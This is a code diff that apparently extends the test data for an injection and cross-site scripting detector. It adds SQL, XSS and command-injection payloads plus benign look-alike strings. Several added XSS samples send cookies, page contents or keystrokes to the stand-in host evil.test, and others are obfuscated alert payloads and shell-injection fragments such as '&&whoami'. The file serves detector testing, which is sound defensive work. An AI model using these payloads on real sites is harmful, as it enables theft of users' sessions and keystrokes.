@@ -20,6 +20,7 @@ const found = (text: string, rail = OMIT): readonly string[] => [
 
 const HARMFUL: Readonly<Record<string, readonly string[]>> = {
   sqli: [
+    "';d=new Date();do{cd=new Date();}while(cd-d<10000);//",
     "1) AND ELT(5569=9020,1)#",
     "1 RLIKE !SLEEP(5)",
     "1;BEGIN USER_LOCK.SLEEP(5); END",
@@ -62,6 +63,17 @@ const HARMFUL: Readonly<Record<string, readonly string[]>> = {
     "a'||(select extractvalue(xmltype('<?xml version=\"1.0\"?>'),'/l') from dual)||'",
   ],
   xss: [
+    '<script>window[atob("YWxlcnQ=")](1)</script>',
+    '<script>self["ale"+"rt"](1)</script>',
+    '<script>globalThis?.["alert"]?.(1)</script>',
+    "<script>const{alert:a}=window;a(1)</script>",
+    "alert.call(null,1)",
+    "+{valueOf:alert}",
+    "<script>document.body.onclick=alert</script>",
+    "navigator.sendBeacon('//evil.test',document.cookie)",
+    '<script>fetch("https://evil.test/log?key="+btoa(document.body.innerHTML))</script>',
+    '<script>document.onkeypress=function(e){new Image().src="https://evil.test/log?k="+e.key}</script>',
+    '<script type="importmap">{"imports":{"x":"data:text/javascript;base64,YWxlcnQoMSk="}}</script>',
     "<script>alert(document.cookie)</script>",
     "<script>[1].find(alert)</script>",
     "<script>fetch('//evil.test/?k='+k)</script>",
@@ -142,6 +154,11 @@ const HARMFUL: Readonly<Record<string, readonly string[]>> = {
     '@System.Diagnostics.Process.Start("cmd.exe");',
   ],
   code: [
+    ";env;",
+    "&&whoami",
+    "1|ls -la",
+    "../../../../usr/bin/env|",
+    "a;exit(md5('x'));#",
     "import os; os.system('id')",
     "__import__('os').popen('id')",
     "subprocess.run(['/bin/sh', '-c', cmd])",
@@ -189,6 +206,15 @@ const HARMFUL: Readonly<Record<string, readonly string[]>> = {
 };
 
 const ORDINARY: readonly string[] = [
+  'fetch("https://api.test/v1", { headers: { Authorization: "Bearer " + localStorage.getItem("token") } })',
+  "| id | name |",
+  "ls; pwd",
+  "; id = 7;",
+  "make && ls",
+  "../docs/index.md",
+  "echo md5('x');",
+  '<script>document.body.onclick = alertUser;</script><script type="importmap">{"imports":{"x":"./x.js"}}</script>',
+  'const names = [atob(encoded)]; "a" + "rt"; const { alert } = window;',
   '"--limit" takes a number',
   "SELECT name, count(*) FROM users WHERE age > 30 AND city = 'Paris' GROUP BY name ORDER BY 2 DESC;",
   "SELECT id FROM a UNION ALL SELECT id FROM b",
